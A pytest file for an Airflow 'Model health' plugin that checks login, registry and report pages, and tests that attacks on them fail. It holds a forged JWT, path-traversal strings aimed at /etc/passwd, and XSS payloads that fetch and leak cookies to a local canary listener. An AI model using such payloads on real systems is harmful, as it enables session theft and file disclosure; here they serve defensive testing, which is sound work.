"""The "Model health" page: its data and HTML on a small hand-written lake, then the real thing — the
Airflow plugin in a `make up` stack (airflow standalone + mlflow server on free loopback ports) on a
lake replayed through the real DAGs, refused without a token, shown after logging in through
Airflow's login page in Debian's Chromium (screenshots under test-artifacts/). The same stack checks `make up`
itself: its logins, MLflow behind a login with the approval rules, and `make down` stopping it all."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from modelguard import decisions
from modelguard.checklist import build_checklist, to_markdown
from modelguard.config import load_config
from modelguard.health_page import approval_trail, page_data, pending_approvals, render_page, report_file
from modelguard.registry import RegistryUnavailable, Version
from modelguard.storage import Lake
from tests.conftest import PROJECT, cli_env, write_config

MLFLOW_UI = "http://mlflow.example:5000"
ARTIFACTS = PROJECT / "test-artifacts"


# --- unit: a small lake written with the project's own helpers ----------------------------------
class Registry:
    """The two reads the page makes of `modelguard.registry.Registry`, over fixed versions."""

    def __init__(self, versions: list[Version]) -> None:
        self._versions = versions

    def versions(self) -> list[Version]:
        return self._versions

    def aliases(self) -> dict[str, str]:
        return {alias: v.version for v in self._versions for alias in v.aliases}


class DeadRegistry:
    def versions(self):
        raise RegistryUnavailable("MLflow registry at http://127.0.0.1:1 failed: connection refused")

    aliases = versions


def version(number: str, aliases: tuple[str, ...] = (), **tags: str) -> Version:
    return Version(version=number, tags=tags, aliases=aliases, run_id=None, created_ms=0)


REGISTRY = Registry([
    version("1", ("previous_champion",), trigger="init", metric_roc_auc="0.85", approval="approved"),
    version("2", ("champion",), trigger="performance", metric_roc_auc="0.86", approval="approved",
            promoted_on="2026-09-08", train_window="2026-09-04..2026-09-05"),
    version("3", ("challenger",), trigger="performance", approval="pending", comparison="passed"),
])


@pytest.fixture
def lake_config(tmp_path: Path):
    """Six days: a null storm quarantined on 09-03, concept drift alerted on 09-05, v2 promoted, v3 waiting."""
    config = load_config(write_config(tmp_path))
    lake = Lake(config.storage_root)
    days = [f"2026-09-0{d}" for d in range(1, 7)]
    for day in days:
        if day == "2026-09-03":
            decisions.record(lake, batch_id=day, dag_id="modelguard_ingest", action="quarantine_batch",
                             reason="column 'customer_age': expect_column_values_to_not_be_null failed for 70% of rows")
            lake.write_text("<html>quarantined</html>", lake.quarantine_dir(day) / "report.html")
            lake.write_json({"batch_id": day}, lake.quarantine_dir(day) / "reason.json")
            lake.write_text("not for people", lake.quarantine_dir(day) / f"{day}.parquet")
            evidence = {"batch_status": "quarantined", "failures": ["column 'customer_age': expect_column_values"
                                                                    "_to_not_be_null failed"]}
        else:
            decisions.record(lake, batch_id=day, dag_id="modelguard_ingest", action="accept_batch",
                             reason="all expectations passed")
            lake.write_text("<html>evidently</html>", lake.report_dir(day) / "drift.html")
            evidence = {"batch_status": "accepted", "output_description": "predicted positive rate 2.00% vs 2.80% in reference"}
        result = build_checklist(evidence)
        lake.write_json({"batch_id": day, **result}, lake.report_dir(day) / "checklist.json")
        lake.write_text(to_markdown(day, result), lake.report_dir(day) / "checklist.md")
    log = [("2026-09-05", "modelguard_monitor", "performance_alert", "1", "champion v1 roc_auc 0.40 <b>below</b>"),
           ("2026-09-05", "modelguard_challenge", "register_challenger", "2", "trained on 2026-09-04..2026-09-05"),
           ("2026-09-05", "modelguard_challenge", "request_approval", "2", "challenger v2 beats champion v1"),
           ("2026-09-06", "modelguard_promote", "promote", "2", "v2 replaces v1 as champion"),
           ("2026-09-06", "modelguard_challenge", "request_approval", "3", "challenger v3 beats champion v2")]
    for day, dag_id, action, model_version, reason in log:
        decisions.record(lake, batch_id=day, dag_id=dag_id, action=action, reason=reason, model_version=model_version)
    accepted = [d for d in days if d != "2026-09-03"]
    health = [{"batch_id": d, "metric": m, "value": v} for d in accepted for m, v in
              (("drift_share", 0.0), ("predicted_positive_rate", 0.02), ("estimated_roc_auc", 0.9))]
    lake.upsert_rows(lake.health_table, pd.DataFrame(health), ["batch_id", "metric"])
    performance = [{"batch_id": d, "alias": "champion", "version": "1", "segment": "all", "metric": "roc_auc",
                    "value": 0.85 if d < "2026-09-04" else 0.4} for d in accepted[:3]]
    lake.upsert_rows(lake.performance_table, pd.DataFrame(performance), ["batch_id", "alias", "segment", "metric"])
    lake.write_json({"output": {"predicted_positive_rate": 0.028}}, lake.reference_profile)
    (tmp_path / "secret.txt").write_text("outside the lake")
    return config, lake


def test_page_data_shows_the_registry_incidents_and_the_waiting_approval(lake_config) -> None:
    config, _ = lake_config
    data = page_data(config, mlflow_ui=MLFLOW_UI, registry=REGISTRY)
    aliases = data["registry"]["aliases"]
    assert (aliases["champion"]["version"], aliases["challenger"]["version"], aliases["previous_champion"]["version"]) \
        == ("2", "3", "1")
    assert aliases["champion"]["url"] == f"{MLFLOW_UI}/#/models/fraud_detector/versions/2"
    assert [(p["version"], p["approval"]) for p in data["pending_approvals"]] == [("3", "pending")]
    assert data["pending_approvals"][0]["url"] == f"{MLFLOW_UI}/#/models/fraud_detector/versions/3"
    incidents = [(e["batch_id"], e["action"]) for e in data["events"] if e["kind"] == "incident"]
    assert incidents == [("2026-09-03", "quarantine_batch"), ("2026-09-05", "performance_alert")]
    assert {e["action"] for e in data["events"]} >= {"register_challenger", "request_approval", "promote"}
    assert data["checklist"]["batch_id"] == "2026-09-06"
    assert data["checklist"]["markdown"] == "reports/2026-09-06/checklist.md"
    batches = {b["batch_id"]: b for b in data["batches"]}
    assert batches["2026-09-03"]["status"] == "quarantined"
    assert batches["2026-09-03"]["links"] == {"checklist": "reports/2026-09-03/checklist.md",
                                              "validation report": "quarantine/2026-09-03/report.html",
                                              "validation reason": "quarantine/2026-09-03/reason.json"}
    assert batches["2026-09-01"]["links"]["drift report"] == "reports/2026-09-01/drift.html"
    assert [p["value"] for p in data["timeline"]["realized"]] == [0.85, 0.85, 0.4]
    assert len(data["timeline"]["estimated"]) == 5
    assert data["timeline"]["reference_output"] == {"predicted_positive_rate": 0.028}
    assert len(data["timeline"]["output"]["predicted_positive_rate"]) == 5 and data["estimate_note"] is None
    json.dumps(data)  # the plugin serves it as JSON as it is


def test_the_page_renders_escaped_with_timelines_and_report_links(lake_config) -> None:
    config, _ = lake_config
    page = render_page(page_data(config, mlflow_ui=MLFLOW_UI, registry=REGISTRY))
    assert "<b>below</b>" not in page and "&lt;b&gt;below&lt;/b&gt;" in page
    assert 'id="timeline"' in page and "Plotly.newPlot" in page and 'src="static/plotly.min.js"' in page
    assert 'href="files/quarantine/2026-09-03/report.html"' in page
    assert f'href="{MLFLOW_UI}/#/models/fraud_detector/versions/3"' in page
    assert "recommended response: <b>investigate</b>" in page


SEEN = {"compared_with": "2", "comparison": "passed", "repairs": "yes", "checklist": "reports/2026-09-07/checklist.md"}
AUDIT_LOG = [
    {"batch_id": "2026-09-08", "action": "promote", "model_version": "3", "reason": "v3 replaces v2",
     "approved_by": "alice", "approved_at": "2026-09-08T10:00:00+00:00", "identity_verified": True,
     "evidence": SEEN, "at": "2026-09-08T10:01:00+00:00"},
    {"batch_id": "2026-09-09", "action": "no_action", "alert": "approval_rejected", "model_version": "4",
     "reason": "rejected", "rejected_by": "carol", "rejected_at": "2026-09-09T09:00:00+00:00",
     "identity_verified": True, "evidence": SEEN},
    {"batch_id": "2026-09-10", "action": "no_action", "alert": "approval_refused", "model_version": "5",
     "reason": "approval of v5 by <script>x</script> refused", "by": "<script>x</script>", "evidence": SEEN},
    {"batch_id": "2026-09-11", "action": "promote", "model_version": "1", "reason": "moved by hand",
     "moved_by": "unknown (champion alias moved in the registry)", "identity_verified": False},
    {"batch_id": "2026-09-12", "action": "promote", "model_version": "6", "reason": "picked by hand",
     "promoted_by_hand": "dan", "by": "dan", "at": "2026-09-12T08:00:00+00:00"},
    {"batch_id": "2026-09-11", "action": "accept_batch", "model_version": None, "reason": "fine"},
]


def test_the_audit_trail_says_who_approved_when_and_what_they_saw() -> None:
    trail = approval_trail(AUDIT_LOG)
    assert [(a["version"], a["what"], a["who"], a["verified"]) for a in trail] == [
        ("3", "approved, promoted", "alice", True), ("4", "rejected", "carol", True),
        ("5", "approval refused", "<script>x</script>", False),
        ("1", "champion moved by hand", "unknown (champion alias moved in the registry)", False),
        ("6", "promoted by hand (Airflow)", "dan", True)]  # Airflow's login: the run's triggering user
    assert trail[0]["acted_at"] == "2026-09-08T10:00:00+00:00" and trail[0]["comparison"] == "passed"
    assert trail[0]["checklist"] == "reports/2026-09-07/checklist.md"


@pytest.mark.parametrize("server", [True, False], ids=["registry-server", "embedded"])
def test_the_page_shows_the_trail_and_says_when_identity_is_not_verified(lake_config, server) -> None:
    config, lake = lake_config
    for entry in AUDIT_LOG[:3]:
        decisions.record(lake, dag_id="modelguard_promote", **{k: v for k, v in entry.items() if k != "at"})
    data = page_data(config, mlflow_ui=MLFLOW_UI, registry=REGISTRY)
    data["approvals"]["verified_by_server"] = server  # what config.registry_server says for an http:// store
    page = render_page(data)
    section = page[page.index("<section id=approvals>"):page.index("</section>", page.index("<section id=approvals>"))]
    assert "alice" in section and "carol" in section and 'href="files/reports/2026-09-07/checklist.md"' in section
    assert "<script>x</script>" not in section and "&lt;script&gt;x&lt;/script&gt;" in section
    assert ("Identity is not verified in this mode" in section) is (not server)


def test_a_dead_registry_is_reported_and_the_lake_still_shows(lake_config) -> None:
    config, _ = lake_config
    data = page_data(config, mlflow_ui=MLFLOW_UI, registry=DeadRegistry())
    assert "connection refused" in data["registry"]["error"]
    # without the registry's tags the log alone says v3 waits (v2's request was followed by its promotion)
    assert [p["version"] for p in data["pending_approvals"]] == ["3"]
    assert "Registry not readable" in render_page(data)


@pytest.mark.parametrize(("log", "tags", "waiting"), [
    ([("09-05", "request_approval", "2"), ("09-06", "promote", "2")], {}, []),
    ([("09-05", "request_approval", "3"), ("09-06", "request_approval", "4"), ("09-06", "promote", "3")], {}, ["4"]),
    ([("09-05", "request_approval", "3")], {"3": {"approval": "rejected"}}, []),
    ([("09-05", "request_approval", "3")], {"3": {"approval": "approved"}}, ["3"]),
    # a rerun of the day re-logs the request after the promotion: still promoted
    ([("09-06", "promote", "3"), ("09-06", "request_approval", "3")], {}, []),
    ([("09-05", "request_approval", "3")], {"3": {"approval": "pending", "rolled_back_on": "09-09"}}, []),
    # a newer challenger (or another champion) superseded it: it leaves the list, by its tag or by the log alone
    ([("09-05", "request_approval", "3"), ("09-06", "request_approval", "4")], {"3": {"approval": "superseded"}},
     ["4"]),
    ([("09-05", "request_approval", "3")], {"3": {"approval": "approved", "superseded_on": "2026-09-06"}}, []),
    ([("09-05", "request_approval", "3"), ("09-06", "no_action:approval_superseded", "3")], {}, []),
], ids=["promoted", "older-promoted-newer-waits", "rejected", "approved-not-yet-promoted", "rerun", "served",
        "superseded", "approved-after-superseded", "superseded-in-the-log"])
def test_pending_approvals(log: list, tags: dict, waiting: list) -> None:
    entries = [{"batch_id": f"2026-{day}", "action": action.split(":")[0], "model_version": v, "reason": "",
                **({"alert": action.split(":")[1]} if ":" in action else {})} for day, action, v in log]
    assert [p["version"] for p in pending_approvals(entries, tags, "m", MLFLOW_UI)] == waiting


def test_only_reports_and_quarantine_files_are_served(lake_config, tmp_path: Path) -> None:
    _, lake = lake_config
    root = lake.root
    (root / "reports" / "2026-09-01" / "escape.html").symlink_to(tmp_path / "secret.txt")
    assert report_file(root, "reports/2026-09-01/drift.html") == (root / "reports/2026-09-01/drift.html").resolve()
    assert report_file(root, "quarantine/2026-09-03/report.html") is not None
    for path in ["quarantine/2026-09-03/2026-09-03.parquet", "reports/../../secret.txt", "../secret.txt",
                 "reports/2026-09-01/escape.html", str(tmp_path / "secret.txt"), "decisions.jsonl", "reports",
                 "reports/2026-09-01", "", "metrics/health.parquet",
                 "reports/2026-09-01/.drift.html.tmp"]:
        assert report_file(root, path) is None, path


# --- end to end: the plugin in a real `make up` stack --------------------------------------------
# Nine days are the least that show every kind of decision: the null storm on day 1 is quarantined on
# 09-02; concept drift from 09-04 (day 3) shows in labels three days later, a challenger trained from the
# onset is requested on 09-08, approved by the simulated engineer and promoted on 09-09; the next, requested that
# day against v1, is superseded by the promotion (#20).
E2E_DAYS, QUARANTINED_DAY = 9, "2026-09-02"
INCIDENTS = ["null_storm@1", "concept_drift@3"]
SHORT_TIMELINE = {
    "challenger": {"window_days": 4, "holdout_days": 1, "min_rows": 1000, "every_days": 30, "bootstrap_rounds": 100},
    "policy": {"performance_window_days": 1, "cooldown_days": 1},
    "validation": {"min_rows": 50},
    "drift": {"sample_rows": 2000},
}


@dataclass
class Stack:
    url: str
    mlflow_url: str
    password: str
    lake: Lake
    config_file: Path
    home: Path  # make up's AIRFLOW_HOME
    up_output: str  # what scripts/up.sh printed


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _run(args: list[str], env: dict, timings: dict, timeout: int = 600) -> None:
    started = time.monotonic()
    done = subprocess.run(args, env=env, cwd=PROJECT, capture_output=True, text=True, timeout=timeout)
    assert done.returncode == 0, f"{' '.join(args)} failed:\n{done.stdout[-3000:]}\n{done.stderr[-5000:]}"
    timings[args[1] if args[0] == "bash" else args[3]] = round(time.monotonic() - started, 1)


def _get(url: str, **kwargs):
    import httpx

    return httpx.get(url, timeout=120, follow_redirects=False, **kwargs)


@pytest.fixture(scope="module")
def stack(tmp_path_factory) -> Stack:
    """A lake with the demo's incidents (null storm on 09-02, concept drift from 09-04, a promotion
    approved by the simulated engineer, the next challenger waiting), served by `make up`'s script on
    free ports. The stack boots while the days are replayed: its own AIRFLOW_HOME (two processes must
    not migrate one metadata DB), and MLflow's server starts on a store `init` has already created."""
    folder = tmp_path_factory.mktemp("health")
    config_file = write_config(folder, **SHORT_TIMELINE)
    airflow_port, mlflow_port = _free_port(), _free_port()
    env = cli_env(config_file, folder / "replay-airflow", AIRFLOW_PORT=str(airflow_port),
                  MLFLOW_PORT=str(mlflow_port), MODELGUARD_MLFLOW_UI=f"http://127.0.0.1:{mlflow_port}")
    home = folder / "airflow"
    stack_env = {**env, "AIRFLOW_HOME": str(home)}
    cli, timings = [sys.executable, "-m", "modelguard.cli"], {}
    _run([*cli, "simulate", "--days", str(E2E_DAYS), "--rows", "2000", "--reference-rows", "6000",
          *[arg for incident in INCIDENTS for arg in ("--incident", incident)]], env, timings)
    _run([*cli, "init"], env, timings)
    started = time.monotonic()
    up = subprocess.Popen(["bash", "scripts/up.sh"], env=stack_env, cwd=PROJECT, text=True,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        _run([*cli, "replay", "--all", "--operator-approves"], env, timings, timeout=900)
        output, _ = up.communicate(timeout=600)
        assert up.returncode == 0, f"scripts/up.sh failed:\n{output[-3000:]}"
        url = f"http://127.0.0.1:{airflow_port}"
        while time.monotonic() < started + 300:
            try:
                if _get(f"{url}/api/v2/monitor/health").status_code == 200:
                    break
            except OSError:
                pass
            time.sleep(1)
        else:
            log = home / "run" / "airflow.log"
            pytest.fail(f"Airflow did not come up on {url}:\n{log.read_text()[-4000:] if log.exists() else ''}")
        timings["stack up, after the replay"] = round(time.monotonic() - started - timings["replay"], 1)
        ARTIFACTS.mkdir(exist_ok=True)  # where the fixture's seconds go, to keep it within budget
        (ARTIFACTS / "model-health-fixture-seconds.json").write_text(json.dumps(timings, indent=1))
        passwords = home / "simple_auth_manager_passwords.json.generated"
        yield Stack(url=url, mlflow_url=f"http://127.0.0.1:{mlflow_port}",
                    password=json.loads(passwords.read_text())["admin"],
                    lake=Lake(load_config(config_file).storage_root), config_file=config_file, home=home,
                    up_output=output)
    finally:
        if up.poll() is None:  # let it write its pid files before stopping what it started
            up.communicate(timeout=600)
        left = _make_down(stack_env, home, [airflow_port, mlflow_port])
    assert not left, f"make down left running: {left}"  # reached when setup and the tests went through


def _make_down(env: dict, home: Path, ports: list[int]) -> list[str]:
    """Run scripts/down.sh; what it left running: a process group make up started, a port still answering."""
    groups = {name: int((home / "run" / f"{name}.pid").read_text()) for name in ("airflow", "mlflow")
              if (home / "run" / f"{name}.pid").exists()}
    down = subprocess.run(["bash", "scripts/down.sh"], env=env, cwd=PROJECT, capture_output=True, text=True,
                          timeout=180)
    left = [] if down.returncode == 0 else [f"down.sh exited {down.returncode}: {down.stderr[-2000:]}"]
    for name, group in groups.items():
        try:
            os.killpg(group, 0)
            left.append(f"{name} (process group {group})")
        except ProcessLookupError:
            pass
    for port in ports:
        with socket.socket() as sock:
            sock.settimeout(2)
            if sock.connect_ex(("127.0.0.1", port)) == 0:
                left.append(f"a listener on port {port}")
    return left


@pytest.mark.e2e
def test_make_up_prints_both_logins_and_serves_mlflow_behind_one_with_the_approval_rules(stack: Stack) -> None:
    """`make up` runs MLflow as the registry server app (`--app-name modelguard`): nothing without a login, the
    printed admin login works, and the approval-policy route says this server stamps who approves."""
    logins_file = stack.home / "run" / "logins.json"
    assert stat.S_IMODE(logins_file.stat().st_mode) == 0o600
    logins = json.loads(logins_file.read_text())
    assert set(logins) == {"airflow", "mlflow"}
    assert all(set(login) == {"username", "password"} for login in logins.values()), logins.keys()
    assert logins["airflow"] == {"username": "admin", "password": stack.password}  # Airflow's login page's
    mlflow = logins["mlflow"]
    assert len(mlflow["password"]) >= 12 and mlflow["password"] != stack.password
    for login in logins.values():
        assert f"login: {login['username']} / {login['password']}" in stack.up_output, stack.up_output
    assert stat.S_IMODE((stack.home / "run" / "mlflow_secrets.json").stat().st_mode) == 0o600

    search = f"{stack.mlflow_url}/api/2.0/mlflow/registered-models/search"
    assert _get(search).status_code == 401
    assert _get(search, auth=(mlflow["username"], mlflow["password"] + "x")).status_code == 401
    answer = _get(search, auth=(mlflow["username"], mlflow["password"]))
    assert answer.status_code == 200, answer.text
    assert "fraud_detector" in {m["name"] for m in answer.json()["registered_models"]}  # the lake's registry

    policy = f"{stack.mlflow_url}/api/2.0/modelguard/approval-policy?name=fraud_detector"
    assert _get(policy).status_code == 401
    answer = _get(policy, auth=(mlflow["username"], mlflow["password"]))
    assert answer.status_code == 200, answer.text
    rules = answer.json()
    assert rules["app"] == "modelguard" and rules["model"] == "fraud_detector"
    # the demo's config lists no approvers: the MLflow admins approve, and this login is one
    assert rules["user"] == mlflow["username"] and rules["approvers"] == [] and rules["may_approve"] is True


def _token(stack: Stack) -> str:
    import httpx

    answer = httpx.post(f"{stack.url}/auth/token", json={"username": "admin", "password": stack.password}, timeout=60)
    assert answer.status_code in (200, 201), answer.text
    return answer.json()["access_token"]


def _forged_token() -> str:
    import jwt

    now = int(time.time())
    claims = {"sub": "admin", "role": "ADMIN", "iat": now, "nbf": now, "exp": now + 600, "aud": "apache-airflow"}
    return jwt.encode(claims, "not-this-airflows-secret-" * 4, algorithm="HS512")


@pytest.mark.e2e
def test_an_anonymous_caller_is_refused(stack: Stack) -> None:
    page = _get(f"{stack.url}/modelguard/", headers={"Accept": "text/html"})
    assert page.status_code == 303 and "/auth/login?next=" in page.headers["location"]
    for path in ("api/health", f"files/quarantine/{QUARANTINED_DAY}/report.html", "static/plotly.min.js", ""):
        assert _get(f"{stack.url}/modelguard/{path}").status_code == 401, path
    for token in ("garbage", _forged_token()):
        answer = _get(f"{stack.url}/modelguard/api/health", headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 401, answer.text
        assert _get(f"{stack.url}/modelguard/api/health", cookies={"_token": token}).status_code == 401
    for path in ("docs", "openapi.json"):  # FastAPI's own pages would be unauthenticated: there are none
        assert _get(f"{stack.url}/modelguard/{path}").status_code in (401, 404)


@pytest.mark.e2e
def test_a_logged_in_engineer_sees_the_incidents(stack: Stack) -> None:
    token = _token(stack)
    answer = _get(f"{stack.url}/modelguard/api/health", headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 200, answer.text
    data = answer.json()
    log = decisions.read_decisions(stack.lake)
    promoted = [e["model_version"] for e in log if e["action"] == "promote"]
    assert promoted, "the replay should have promoted the approved challenger"
    champion = data["registry"]["aliases"]["champion"]
    assert champion["version"] == promoted[-1]
    assert champion["url"] == f"{stack.mlflow_url}/#/models/fraud_detector/versions/{promoted[-1]}"
    events = {(e["batch_id"], e["action"]) for e in data["events"]}
    assert (QUARANTINED_DAY, "quarantine_batch") in events
    assert {"performance_alert", "register_challenger", "request_approval", "promote"} <= {a for _, a in events}
    requested = {e["model_version"] for e in log if e["action"] == "request_approval"}
    waiting = {p["version"] for p in data["pending_approvals"]}
    # v3 beat v1 on 09-09, and v2 replaced v1 that day: its request is superseded (#20), not waiting
    superseded = {e["model_version"] for e in log if e.get("alert") == "approval_superseded"}
    assert superseded, "the request compared with the replaced champion is superseded"
    assert requested == waiting | (requested & set(promoted)) | superseded
    assert not waiting & (set(promoted) | superseded)
    assert data["checklist"]["batch_id"] == f"2026-09-{E2E_DAYS:02d}"
    assert {p["alias"] for p in data["timeline"]["realized"]} >= {"champion"}
    assert len(data["timeline"]["estimated"]) == E2E_DAYS - 1  # every accepted day

    # Airflow lists the plugin: its nav entry and its app (what the UI builds the "Model health" link from)
    plugins = _get(f"{stack.url}/api/v2/plugins", headers={"Authorization": f"Bearer {token}"}).json()["plugins"]
    ours = next(p for p in plugins if p["name"] == "modelguard_health")
    assert ours["fastapi_apps"][0]["url_prefix"] == "/modelguard"
    assert ours["external_views"][0]["url_route"] == "model-health"

    # the UI sends the token as a cookie
    page = _get(f"{stack.url}/modelguard/", cookies={"_token": token})
    assert page.status_code == 200 and page.headers["cache-control"] == "no-store"
    for text in ("Model health: fraud_detector", "quarantine_batch", "performance_alert", "promote",
                 "Latest root-cause checklist", f'href="files/quarantine/{QUARANTINED_DAY}/report.html"',
                 *(f"{stack.mlflow_url}/#/models/fraud_detector/versions/{v}" for v in waiting)):
        assert text in page.text, text


@pytest.mark.e2e
def test_reports_are_served_and_nothing_else(stack: Stack) -> None:
    headers = {"Authorization": f"Bearer {_token(stack)}"}
    drift = _get(f"{stack.url}/modelguard/files/reports/2026-09-01/drift.html", headers=headers)
    assert drift.status_code == 200 and drift.headers["content-type"].startswith("text/html")
    # on disk the day's report loads the shared library; served, it is whole again (one self-contained page)
    on_disk = stack.lake.report_dir("2026-09-01") / "drift.html"
    assert '_lib/evidently-' in on_disk.read_text() and on_disk.stat().st_size < 2_000_000
    assert "_lib/evidently-" not in drift.text and len(drift.text) > on_disk.stat().st_size + 3_000_000
    assert "window.drawDashboard" in drift.text
    # landed values live in these files: sandboxed (opaque origin, no network), never sniffed
    policy = drift.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts") and "allow-same-origin" not in policy
    assert "connect-src 'none'" in policy and drift.headers["x-content-type-options"] == "nosniff"
    quarantined = _get(f"{stack.url}/modelguard/files/quarantine/{QUARANTINED_DAY}/report.html", headers=headers)
    assert quarantined.status_code == 200 and "quarantined" in quarantined.text
    assert _get(f"{stack.url}/modelguard/static/plotly.min.js", headers=headers).status_code == 200
    import httpx

    for path in (f"quarantine/{QUARANTINED_DAY}/{QUARANTINED_DAY}.parquet", "%2e%2e/pipeline.yaml", "reports/..%2f..%2fpipeline.yaml",
                 "reports/%2e%2e/%2e%2e/pipeline.yaml", "..%2F..%2F..%2Fetc%2Fpasswd", "/etc/passwd", "decisions.jsonl"):
        # send the path as written: no client-side normalisation of the dots
        request = httpx.Request("GET", f"{stack.url}/modelguard/files/x", headers=headers)
        request.url = request.url.copy_with(raw_path=f"/modelguard/files/{path}".encode())
        with httpx.Client(timeout=60) as client:
            assert client.send(request).status_code == 404, path


def _chromium() -> str:
    found = os.environ.get("CHROMIUM_PATH") or shutil.which("chromium") or shutil.which("chromium-browser")
    if not found:
        pytest.fail("Chromium not found: run scripts/install_browser.sh (`make test` does), or set CHROMIUM_PATH")
    return found


@pytest.mark.e2e
def test_the_page_in_the_airflow_ui_through_the_login_page(stack: Stack) -> None:
    from playwright.sync_api import sync_playwright

    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=_chromium(), args=["--no-sandbox"])
        try:
            context = browser.new_context(viewport={"width": 1440, "height": 1000})
            page = context.new_page()
            page.set_default_timeout(90_000)
            # anonymous: the plugin sends the browser to Airflow's own login page, which sends it back
            page.goto(f"{stack.url}/modelguard/")
            assert "/auth/login" in page.url
            page.get_by_label("Username").fill("admin")
            page.get_by_label("Password").fill(stack.password)
            page.get_by_role("button", name="Sign in").click()
            page.wait_for_url(f"{stack.url}/modelguard/")
            page.locator("#timeline .main-svg").first.wait_for()  # plotly drew the timelines
            page.screenshot(path=str(ARTIFACTS / "model-health-page.png"), full_page=True)

            # the same page from the plugin's entry in Airflow's nav, framed in the Airflow UI
            page.goto(f"{stack.url}/")
            page.get_by_role("link", name="Model health").click()
            page.wait_for_url("**/plugin/model-health")
            frame = page.frame_locator("iframe[title='Model health']")
            frame.locator("#timeline .main-svg").first.wait_for()
            incidents = frame.locator("#incidents").inner_text()
            for text in ("quarantine_batch", QUARANTINED_DAY, "performance_alert", "request_approval", "promote"):
                assert text in incidents, text
            pending = frame.locator("#pending").inner_text()  # superseded requests left the list (#20)
            superseded = {e["model_version"] for e in decisions.read_decisions(stack.lake)
                          if e.get("alert") == "approval_superseded"}
            assert superseded and not any(f"v{v} in MLflow" in pending for v in superseded), pending
            assert "recommended response" in frame.locator("#checklist").inner_text().lower()
            page.screenshot(path=str(ARTIFACTS / "model-health.png"))
            if os.environ.get("MODELGUARD_UPDATE_SCREENSHOT"):
                shutil.copyfile(ARTIFACTS / "model-health.png", PROJECT / "docs" / "img" / "model-health.png")
        finally:
            browser.close()


class _Canary:
    """A loopback listener: any request that reaches it is a script that ran and reached the network."""

    def __init__(self) -> None:
        import http.server
        import threading

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def _hostile_batch(stack: Stack, payload: str, canary: str) -> str:
    """Land the next day's batch with the payload in a category and in a column name; ingest it."""
    from modelguard.ingest import ingest_batch

    config = load_config(stack.config_file)
    landed = sorted(stack.lake.landed_ids("batches"))
    day = (pd.Timestamp(landed[-1]) + pd.Timedelta(days=1)).date().isoformat()
    frame = pd.read_parquet(stack.lake.landing("batches", landed[-1]))
    frame["event_time"] = frame["event_time"] + pd.Timedelta(days=1)
    frame["transaction_id"] = frame["transaction_id"].astype(str) + "-hostile"
    frame.loc[frame.index[:30], "merchant_category"] = payload
    frame[f"<img src={canary}/column-name>"] = 1
    path = stack.lake.root / "landing" / "batches" / f"{day}.parquet"
    frame.to_parquet(path, index=False)
    assert ingest_batch(config, day)["status"] == "quarantined"
    return day


@pytest.mark.e2e
def test_a_script_payload_in_the_data_runs_nowhere_with_airflows_rights(stack: Stack) -> None:
    """Landed values reach the quarantine report, the decision log and (through an Evidently report made
    before the markup rule, say) a served HTML file. In the browser, logged in to Airflow: nothing runs in
    Airflow's origin and nothing reaches the network."""
    from playwright.sync_api import sync_playwright

    canary = _Canary()
    payload = (f"</script><script>document.title='pwned';fetch('{canary.url}/category')</script>"
               f"<img src=x onerror=\"fetch('{canary.url}/onerror')\">")
    try:
        day = _hostile_batch(stack, payload, canary.url)
        decisions.record(stack.lake, batch_id=day, dag_id="modelguard_monitor", action="no_action", reason=payload,
                         alert="drift_alert")
        # An HTML report holding the payload as live script, as a plot library's inline data would
        hostile = stack.lake.report_dir(day) / "drift.html"
        hostile.parent.mkdir(parents=True, exist_ok=True)
        hostile.write_text(
            "<!doctype html><html><head><title>report</title></head><body><script>"
            "var origin = self.origin, cookie;"
            "try { cookie = document.cookie; } catch (e) { cookie = 'blocked'; }"
            f"try {{ fetch('/api/v2/dags', {{credentials: 'include'}}).then(function () {{"
            f" new Image().src = '{canary.url}/api-read'; }}); }} catch (e) {{}}"
            f"try {{ new Image().src = '{canary.url}/img?c=' + cookie; }} catch (e) {{}}"
            f"try {{ fetch('{canary.url}/fetch'); }} catch (e) {{}}"
            "try { window.top.document.title = 'pwned'; } catch (e) {}"
            "document.title = 'origin:' + origin + ' cookie:' + cookie;"
            "</script></body></html>")
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=_chromium(), args=["--no-sandbox"])
            try:
                page = browser.new_context().new_page()
                page.set_default_timeout(90_000)
                page.goto(f"{stack.url}/modelguard/")
                page.get_by_label("Username").fill("admin")
                page.get_by_label("Password").fill(stack.password)
                page.get_by_role("button", name="Sign in").click()
                page.wait_for_url(f"{stack.url}/modelguard/")
                page.locator("#timeline .main-svg").first.wait_for()
                assert page.title() != "pwned" and payload in page.locator("body").inner_text()  # shown as text

                page.goto(f"{stack.url}/modelguard/files/quarantine/{day}/report.html")
                assert page.title() != "pwned" and "quarantined" in page.locator("body").inner_text()

                page.goto(f"{stack.url}/modelguard/files/reports/{day}/drift.html")
                page.wait_for_function("document.title.startsWith('origin:')")
                # the script ran, but in an opaque origin: no cookie, no Airflow API, no network
                assert page.title() == "origin:null cookie:blocked", page.title()
                page.wait_for_timeout(2000)

                # a real day's Evidently report (its library shared on disk) draws its dashboard in the sandbox
                page.goto(f"{stack.url}/modelguard/files/reports/2026-09-01/drift.html")
                page.wait_for_function("(() => { const root = document.querySelector('[id^=root_]');"
                                       " return root !== null && root.querySelectorAll('svg, table').length > 0; })()")
            finally:
                browser.close()
        assert canary.hits == [], canary.hits
    finally:
        canary.close()
